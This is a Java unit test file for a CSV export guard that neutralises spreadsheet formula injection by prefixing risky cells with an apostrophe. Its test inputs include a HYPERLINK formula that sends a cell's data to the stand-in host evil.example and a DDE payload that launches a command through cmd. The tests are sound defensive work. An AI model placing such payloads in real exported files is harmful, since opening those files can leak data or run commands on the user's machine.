package org.iqracity.console.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** R14: the one guard for cells a spreadsheet would run. */
class SpreadsheetCsvTest {

    @Test
    void cellsThatStartLikeFormulasBecomeText() {
        for (String formula : List.of("=HYPERLINK(\"http://evil.example/?d=\"&C2,\"Open\")", "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=", "+", "-", "@", "-Amara-", "+1 555 0100")) {
            assertThat(SpreadsheetCsv.guard(formula)).as(formula).isEqualTo("'" + formula);
        }
    }

    @Test
    void numbersAndPlainTextStayAsTheyAre() {
        for (String plain : List.of("-5", "+5", "-0.25", "+1.5e3", "3", "Amara Obi", "", "a=b", "'quoted")) {
            assertThat(SpreadsheetCsv.guard(plain)).as(plain).isEqualTo(plain);
        }
        assertThat(SpreadsheetCsv.guard(null)).isEmpty();
    }

    @Test
    void aGuardedCellReadsBackAsTyped() {
        for (String v : List.of("=1+1", "@Amara", "-5", "Amara", "'quoted", "'", "")) {
            assertThat(SpreadsheetCsv.unguard(SpreadsheetCsv.guard(v))).as(v).isEqualTo(v);
        }
    }

    @Test
    void aLineIsRfc4180WithEveryCellGuarded() {
        assertThat(SpreadsheetCsv.line(List.of("=1+1", "a,b", "-7", "say \"hi\"")))
                .isEqualTo("'=1+1,\"a,b\",-7,\"say \"\"hi\"\"\"\r\n");
    }
}
